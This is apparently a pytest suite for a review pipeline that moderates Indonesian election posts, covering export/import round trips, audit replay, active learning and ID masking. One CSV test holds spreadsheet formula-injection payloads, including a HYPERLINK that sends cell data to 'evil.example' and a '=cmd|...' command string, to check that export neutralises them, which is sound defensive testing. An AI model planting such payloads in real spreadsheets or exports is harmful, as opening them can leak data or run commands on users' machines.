"""Export to jsonl/csv/hf and import back without loss; history replay; active learning."""

from __future__ import annotations

import json

import pytest
from review_factory import make_items
from sqlalchemy import func, select, text

from pipeline.errors import InputError
from pipeline.io.review_records import read_records, training_examples
from pipeline.review import add_reviewer
from pipeline.review.active import enqueue_uncertain, entropy, uncertainty
from pipeline.review.decide import DecisionInput, decide
from pipeline.review.export import export, import_records, iter_records
from pipeline.review.history import replay, verify
from pipeline.review.queue import claim_next, skip
from pipeline.store import open_store, tables


def _decided_store(store):
    """Two single-review items rejected with labels, one two-review item escalated then adjudicated."""
    make_items(store, 2, text='Coblos "nomor 2",\nya! [b]tebal[/b] ☝️')
    [esc] = make_items(store, 1, labels=["PENYALAHGUNAAN_JABATAN"], start=5)
    add_reviewer(store, "ada", role="adjudicator")
    first = claim_next(store, "ana")
    assert first["id"] == esc  # highest priority
    skip(store, esc, "ana")
    for _ in range(2):
        item = claim_next(store, "ana")
        decide(
            store,
            item["id"],
            DecisionInput(
                reviewer="ana", decision="rejected", labels=["NETRAL_PEMILU"], note="kutipan berita"
            ),
        )
    decide(store, esc, DecisionInput(reviewer="ana", decision="confirmed"))
    decide(store, esc, DecisionInput(reviewer="bob", decision="rejected"))
    decide(store, esc, DecisionInput(reviewer="ada", decision="confirmed", violation_category="S12"))
    return store


def _strip(records):
    out = []
    for rec in records:
        rec = dict(rec)
        rec.pop("item_id")
        rec["history"] = [e for e in rec["history"] if e["event"] != "item.imported"]
        out.append(rec)
    return out


@pytest.mark.parametrize("fmt", ["jsonl", "csv", "hf"])
def test_export_import_round_trip_is_lossless(store, tmp_path, fmt):
    _decided_store(store)
    original = list(iter_records(store))
    assert len(original) == 3
    path = tmp_path / ("out" if fmt == "hf" else f"out.{fmt}")
    assert export(store, path, fmt=fmt) == len(original)
    assert _strip(read_records(path)) == _strip(original)

    other = open_store(f"sqlite:///{tmp_path / 'other.db'}")
    result = import_records(other, read_records(path), source=str(path))
    assert result.imported == len(original) and result.duplicates == 0
    again = list(iter_records(other))
    assert _strip(again) == _strip(original)
    assert [r["history"][-1]["event"] for r in again] == ["item.imported"] * len(again)
    for rec in again:
        assert verify(other, rec["item_id"]) == []
    assert import_records(other, read_records(path)).duplicates == len(original)
    other.dispose()


def test_export_contents(store, tmp_path):
    _decided_store(store)
    path = tmp_path / "out.jsonl"
    export(store, path, fmt="jsonl")
    recs = [json.loads(line) for line in path.read_text(encoding="utf-8").splitlines()]
    by_status = {r["status"]: r for r in recs}
    adj = by_status["confirmed"]
    assert adj["labels"] == ["PENYALAHGUNAAN_JABATAN"] and adj["suggestion"]["labels"] == [
        "PENYALAHGUNAAN_JABATAN"
    ]
    assert adj["suggestion"]["model"] == "rules@1" and adj["prediction"]["model_version"] == "1"
    assert [d["reviewer"] for d in adj["decisions"]] == ["ana", "bob", "ada"]
    assert (
        adj["decisions"][-1]["is_adjudication"] is True
        and adj["decisions"][-1]["violation_category"] == "S12"
    )
    assert adj["account"]["nip_masked"] == "19860926 ****** * ***"
    assert by_status["rejected"]["labels"] == ["NETRAL_PEMILU"]
    examples = list(training_examples(path))
    assert {tuple(e["labels"]) for e in examples} == {("PENYALAHGUNAAN_JABATAN",), ("NETRAL_PEMILU",)}
    by_id = {r["post_id"]: r for r in recs}
    for e in examples:  # what training needs to rebuild the post
        post = by_id[e["id"]]["post"]
        assert (e["kind"], e["created_at"], e["platform"]) == (
            post["kind"],
            post["created_at"],
            post["platform"],
        )
        assert e["election_id"] == by_id[e["id"]]["election_id"] and e["source"] == "review"


def test_import_refuses_tampered_text(store, tmp_path):
    _decided_store(store)
    recs = list(iter_records(store))
    recs[0]["text"] = "diubah"
    other = open_store(f"sqlite:///{tmp_path / 'other.db'}")
    with pytest.raises(InputError, match="text_sha256"):
        import_records(other, recs)
    with other.session() as s:
        assert s.scalar(select(func.count()).select_from(tables.ReviewItem)) == 0
    other.dispose()


def test_read_records_errors(tmp_path):
    with pytest.raises(InputError, match="no such file"):
        list(read_records(tmp_path / "missing.jsonl"))
    bad = tmp_path / "bad.csv"
    bad.write_text("a,b\n1,2\n", encoding="utf-8")
    with pytest.raises(InputError, match="missing column"):
        list(read_records(bad))


def test_history_replay_reproduces_every_item(store):
    _decided_store(store)
    with store.session() as s:
        ids = list(s.scalars(select(tables.ReviewItem.id)))
    for item_id in ids:
        assert verify(store, item_id) == []


def test_history_replay_detects_a_gap(store):
    [item_id] = make_items(store, 1)
    claim_next(store, "ana")
    # A change made behind the workflow's back (no audit event) is caught by the replay.
    with store.session() as s:
        s.execute(text("UPDATE review_items SET status = 'confirmed' WHERE id = :i"), {"i": item_id})
    problems = verify(store, item_id)
    assert any(p.startswith("status:") for p in problems)
    state, decisions, chain = replay(
        [
            {"id": 1, "event": "item.created", "before": None, "after": {"status": "pending"}},
            {
                "id": 2,
                "event": "item.claimed",
                "before": {"status": "in_review"},
                "after": {"status": "in_review"},
            },
        ]
    )
    assert chain and state["status"] == "in_review" and decisions == []


def test_audit_log_is_append_only(store, items):
    from sqlalchemy.exc import DBAPIError

    with pytest.raises(DBAPIError, match="append-only"), store.session() as s:
        s.execute(text("DELETE FROM audit_log"))


def test_enqueue_uncertain_picks_least_sure_not_queued(store):
    make_items(store, 100, with_prediction_only=True)  # partisan scores 0.00 .. 0.99
    make_items(store, 1, start=200, partisan_score=0.5)  # already queued: must be left out
    rows = enqueue_uncertain(store, n=3)
    assert [r["post_id"] for r in rows] == ["x:50", "x:49", "x:51"]
    assert rows[0]["uncertainty"] == 1.0
    again = enqueue_uncertain(store, n=2)
    assert {r["post_id"] for r in again}.isdisjoint({r["post_id"] for r in rows})
    with store.session() as s:
        item = s.get(tables.ReviewItem, rows[0]["item_id"])
        assert item.status == "pending" and item.priority == pytest.approx(0.1)
    assert enqueue_uncertain(store, n=0) == []


def test_uncertainty_and_entropy():
    assert uncertainty(0.5) == 1.0 and uncertainty(1.0) == 0.0 and uncertainty(0.0) == 0.0
    assert entropy({"A": 0.5}) == pytest.approx(1.0) and entropy({"A": 1.0, "B": "x"}) == 0.0


def test_export_masks_a_nip_in_the_bio(store, tmp_path):
    _decided_store(store)
    with store.session() as session:
        for account in session.scalars(select(tables.Account)):
            account.bio = "Guru SDN 2, NIP 19860926 201503 1 002, akun pribadi"
        session.commit()
    path = tmp_path / "out.jsonl"
    export(store, path, fmt="jsonl")
    text = path.read_text(encoding="utf-8")
    assert "201503" not in text
    bios = {json.loads(line)["account"]["bio"] for line in text.splitlines()}
    assert bios == {"Guru SDN 2, NIP 19860926 ****** * ***, akun pribadi"}


@pytest.mark.parametrize(
    "payload",
    ['=HYPERLINK("http://evil.example/?q="&A1,"klik") coblos 2', "+62 812 coblos", "@SUM(1+1)", "'=sudah dikutip",
     "-- pilih nomor 1"],
)  # fmt: skip
def test_csv_export_neutralises_formulas_and_reads_them_back_exactly(store, tmp_path, payload):
    import csv

    make_items(store, 1, text=payload)
    item = claim_next(store, "ana")
    decide(store, item["id"], DecisionInput(reviewer="ana", decision="rejected", note="=cmd|' /C calc'!A0"))
    path = tmp_path / "out.csv"
    export(store, path, fmt="csv")
    with path.open(encoding="utf-8", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["text"] == "'" + payload  # a spreadsheet shows it as text
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row.values())
    back = list(read_records(path))
    assert back[0]["text"] == payload  # and training reads the post's own text
    assert back[0]["decisions"][0]["note"] == "=cmd|' /C calc'!A0"  # nested values are JSON text


def test_formula_quoting_round_trips_every_string():
    from pipeline.io.cells import quote_formula, unquote_formula

    for value in ["", "'", "''", "'x", "=1", "'=1", "''=1", "a=1", "-", "\t=x", "biasa"]:
        assert unquote_formula(quote_formula(value)) == value
        assert not quote_formula(value).startswith(("=", "+", "-", "@", "\t", "\r"))
